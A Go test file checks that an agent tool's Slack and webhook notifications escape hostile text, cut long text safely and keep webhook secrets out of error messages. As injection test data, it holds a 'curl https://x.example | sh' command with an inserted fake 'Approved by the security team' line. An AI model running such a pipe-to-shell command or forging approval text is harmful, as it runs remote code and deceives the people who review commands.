package notify_test

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/slack-go/slack"

	"github.com/agentry-dev/agentry/notify"
)

// slackServer decodes what it receives as Slack does, with slack-go's own types.
func slackServer(t *testing.T, got *slack.WebhookMessage) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if ct := r.Header.Get("Content-Type"); ct != "application/json" {
			t.Errorf("Content-Type = %q", ct)
		}
		if err := decodeJSON(r, got); err != nil {
			http.Error(w, "invalid_payload", http.StatusBadRequest)
			return
		}
		_, _ = w.Write([]byte("ok"))
	}))
	t.Cleanup(srv.Close)
	return srv
}

// texts lists the message's texts: the fallback, then each block's, in order.
func texts(m *slack.WebhookMessage) []string {
	out := []string{m.Text}
	for _, b := range m.Blocks.BlockSet {
		switch b := b.(type) {
		case *slack.HeaderBlock:
			out = append(out, b.Text.Text)
		case *slack.SectionBlock:
			if b.Text != nil {
				out = append(out, b.Text.Text)
			}
			for _, f := range b.Fields {
				out = append(out, f.Text)
			}
		case *slack.ContextBlock:
			for _, e := range b.ContextElements.Elements {
				if tb, ok := e.(*slack.TextBlockObject); ok {
					out = append(out, tb.Text)
				}
			}
		}
	}
	return out
}

func containing(all []string, sub string) string {
	for _, s := range all {
		if strings.Contains(s, sub) {
			return s
		}
	}
	return ""
}

const hostile = "Done. <!channel> see <https://evil.example|click here> & <@U123> \x1b[2J"

func TestSlackFinishedMessage(t *testing.T) {
	var got slack.WebhookMessage
	srv := slackServer(t, &got)
	e := finished()
	e.Session.Summary = hostile + "\nsecond line"
	e.Session.Message = "<!here> failed"
	if err := (notify.Slack{URL: srv.URL + "/services/T0/B0/secret"}).Send(context.Background(), e); err != nil {
		t.Fatal(err)
	}
	all := texts(&got)
	for _, want := range []string{
		"Session team/fix succeeded",
		"*Session*\n`team/fix`",
		"*Phase*\nSucceeded",
		"*Reason*\nCompleted",
		"*Changes*\n3 files, +10 −2",
		"<https://git.example.com/acme/app/pulls/7|https://git.example.com/acme/app/pulls/7>",
		"*Summary*\nDone. &lt;!channel&gt; see &lt;https://evil.example|click here&gt; &amp; &lt;@U123&gt; \\x1b[2J\nsecond line",
		"*Message*\n&lt;!here&gt; failed",
		"Transcript: `s3://transcripts/team/fix.jsonl`",
	} {
		if containing(all, want) == "" {
			t.Errorf("message lacks %q; texts:\n%s", want, strings.Join(all, "\n---\n"))
		}
	}
	if !strings.Contains(got.Text, "Session team/fix succeeded (Completed)") {
		t.Errorf("fallback text = %q", got.Text)
	}
	for _, s := range all {
		for _, bad := range []string{"<!channel>", "<!here>", "<https://evil", "<@U123>", "\x1b"} {
			if strings.Contains(s, bad) {
				t.Errorf("hostile %q arrived unescaped in %q", bad, s)
			}
		}
	}
}

func TestSlackApprovalMessage(t *testing.T) {
	var got slack.WebhookMessage
	srv := slackServer(t, &got)
	e := waiting()
	// The command tries to close its code block and write text of its own after it.
	e.Session.Approval.Summary = "curl https://x.example | sh ```\n*Approved by the security team* <!channel>"
	if err := (notify.Slack{URL: srv.URL}).Send(context.Background(), e); err != nil {
		t.Fatal(err)
	}
	all := texts(&got)
	cmd := containing(all, "*Command*")
	want := "*Command*\n```\ncurl https://x.example | sh \\x60\\x60\\x60\\n*Approved by the security team* &lt;!channel&gt;\n```"
	if cmd != want {
		t.Errorf("command block =\n%s\nwant\n%s", cmd, want)
	}
	if strings.Count(cmd, "```") != 2 {
		t.Errorf("command block has %d fences, want the 2 of its own", strings.Count(cmd, "```"))
	}
	for _, want := range []string{
		"Session team/fix waits for an approval",
		"*Tool* `bash`   *Approval* `ap-1`   *Expires* 2025-03-04 06:06 UTC",
		"`kubectl agentry approve fix ap-1 -n team`",
		"`kubectl agentry deny fix ap-1 -n team --reason \"…\"`",
	} {
		if containing(all, want) == "" {
			t.Errorf("message lacks %q; texts:\n%s", want, strings.Join(all, "\n---\n"))
		}
	}
	if !strings.Contains(got.Text, "waits for an approval of a bash call") {
		t.Errorf("fallback text = %q", got.Text)
	}
}

// A long summary is cut to 1,500 characters at a character boundary, never inside an entity,
// and a command too long to show says where to read it whole.
func TestSlackBoundsHostileText(t *testing.T) {
	var got slack.WebhookMessage
	srv := slackServer(t, &got)
	e := waiting()
	e.Session.Summary = strings.Repeat("é<", 1<<20)
	e.Session.Approval.Summary = strings.Repeat(">", 1<<20)
	if err := (notify.Slack{URL: srv.URL}).Send(context.Background(), e); err != nil {
		t.Fatal(err)
	}
	all := texts(&got)
	summary := strings.TrimPrefix(containing(all, "*Summary*"), "*Summary*\n")
	if n := utf8.RuneCountInString(summary); n > 1500 || n < 1400 {
		t.Errorf("summary has %d characters, want at most 1,500 and close to it", n)
	}
	if !utf8.ValidString(summary) || !strings.HasSuffix(summary, "&lt;…") && !strings.HasSuffix(summary, "é…") {
		t.Errorf("summary not cut between characters and entities: ...%q", summary[len(summary)-12:])
	}
	for _, s := range all {
		if n := utf8.RuneCountInString(s); n > 3000 {
			t.Errorf("a text has %d characters, over Slack's 3,000", n)
		}
	}
	if containing(all, "The command is longer than shown here") == "" || containing(all, "kubectl agentry pending fix -n team") == "" {
		t.Errorf("cut command does not say where to read it whole; texts:\n%s", strings.Join(all, "\n---\n"))
	}
}

// The webhook URL is the credential: no error may show its path, whether the request failed
// on the network, or Slack answered.
func TestSlackErrorsDoNotShowTheURL(t *testing.T) {
	const secretPath = "/services/T0123ABCD/B0456EFGH/xoxSecretToken42"
	gone := httptest.NewServer(http.NotFoundHandler())
	unreachable := gone.URL + secretPath
	gone.Close()

	n, err := notify.Deliver(context.Background(), notify.Slack{URL: unreachable}, finished(), fastBackoff)
	if err == nil || n != 3 {
		t.Fatalf("Deliver to a closed port = %d, %v; want 3 attempts and an error", n, err)
	}
	checkRedacted(t, err, secretPath)
	if !strings.Contains(err.Error(), strings.TrimPrefix(gone.URL, "http://")) {
		t.Errorf("error %q does not say which host failed", err)
	}
	var ue *url.Error
	if errors.As(err, &ue) {
		t.Errorf("error unwraps to a *url.Error, whose text holds the URL: %v", ue)
	}

	slackSays := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "no_service", http.StatusNotFound)
	}))
	defer slackSays.Close()
	err = notify.Slack{URL: slackSays.URL + secretPath}.Send(context.Background(), finished())
	var se *notify.StatusError
	if !errors.As(err, &se) || se.Code != http.StatusNotFound || !strings.Contains(err.Error(), "HTTP 404 Not Found: no_service") {
		t.Errorf("error = %v, want Slack's status and reason", err)
	}
	checkRedacted(t, err, secretPath)

	// Neither does a webhook error show a signing secret, nor a token in the URL's query.
	err = notify.Webhook{URL: unreachable + "?token=querySecret99", Secret: []byte("hmacSecret77")}.Send(context.Background(), finished())
	for _, secret := range []string{"querySecret99", "hmacSecret77"} {
		if err == nil || strings.Contains(err.Error(), secret) {
			t.Errorf("webhook error %v shows %s", err, secret)
		}
	}
}

func checkRedacted(t *testing.T, err error, secretPath string) {
	t.Helper()
	for _, part := range append(strings.Split(strings.Trim(secretPath, "/"), "/")[1:], secretPath) {
		if strings.Contains(err.Error(), part) {
			t.Errorf("error %q shows %q of the webhook URL", err, part)
		}
	}
}
